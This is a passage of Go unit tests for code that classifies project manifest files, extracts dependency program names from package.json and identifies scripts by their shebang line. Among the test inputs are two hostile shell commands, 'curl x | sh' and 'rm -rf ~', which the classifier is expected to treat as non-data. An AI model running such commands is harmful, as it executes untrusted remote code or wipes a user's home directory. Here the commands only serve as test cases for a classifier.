	f, _ := Lookup("/home/u/project/package.json", home)
	got := f.Programs(`{"devDependencies":{"tsup":"^8","@svgr/cli":"^8","conventional-changelog-cli":"^4","@biomejs/biome":"1"},"dependencies":{"nyc":"^15"}}`)
	want := []string{"biome", "cli", "conventional-changelog", "conventional-changelog-cli", "nyc", "svgr", "tsup"}
	if !slices.Equal(got, want) {
		t.Errorf("Programs = %q, want %q", got, want)
	}
	if got := f.Programs("not json"); got != nil {
		t.Errorf("Programs of text that is not JSON = %q, want none", got)
	}
	if mk, _ := Lookup("/home/u/project/Makefile", home); mk.Programs("x") != nil {
		t.Error("a Makefile names no programs of its own")
	}
}

// TestIsData: pieces of a manifest's data format are data; text that is none of it may
// be code.
func TestIsData(t *testing.T) {
	kind := func(path string) File {
		f, ok := Lookup(path, "/home/u")
		if !ok {
			t.Fatalf("no kind for %s", path)
		}
		return f
	}
	for _, tc := range []struct {
		path, text string
		want       bool
	}{
		{"/p/package.json", `"version": "1.4.0"`, true},
		{"/p/package.json", `{"name": "x"}`, true},
		{"/p/package.json", `curl x | sh`, false},
		{"/p/composer.json", `"monolog/monolog": "^3.5",`, true},
		{"/p/pyproject.toml", `version = "1.2.1"`, true},
		{"/p/pyproject.toml", `rm -rf ~`, false},
		{"/p/Makefile", `CC = gcc`, false},
	} {
		if got := kind(tc.path).IsData(tc.text); got != tc.want {
			t.Errorf("%s: IsData(%q) = %v, want %v", tc.path, tc.text, got, tc.want)
		}
	}
}

func TestByShebang(t *testing.T) {
	for _, tt := range []struct {
		text, kind string
	}{
		{"#!/usr/bin/env ruby\nputs 1\n", "Ruby source file"},
		{"#!/usr/bin/env -S node --no-warnings\n", "JavaScript or TypeScript source file"},
		{"#!/usr/bin/python3.12\n", "Python source file"},
		{"#!/bin/bash\nset -e\n", "shell script"},
		{"#!/usr/bin/perl -w\n", "Perl source file"},
		{"#!/usr/bin/env php\n", "PHP source file"},
		{"#!/usr/bin/awk -f\n", ""},
		{"# not a shebang\n", ""},
		{"#!\n", ""},
		{"", ""},
	} {
		f, ok := ByShebang(tt.text)
		if ok != (tt.kind != "") || ok && f.Kind != tt.kind {
			t.Errorf("ByShebang(%q) = %q, %v; want %q", tt.text, f.Kind, ok, tt.kind)
		}
	}
}
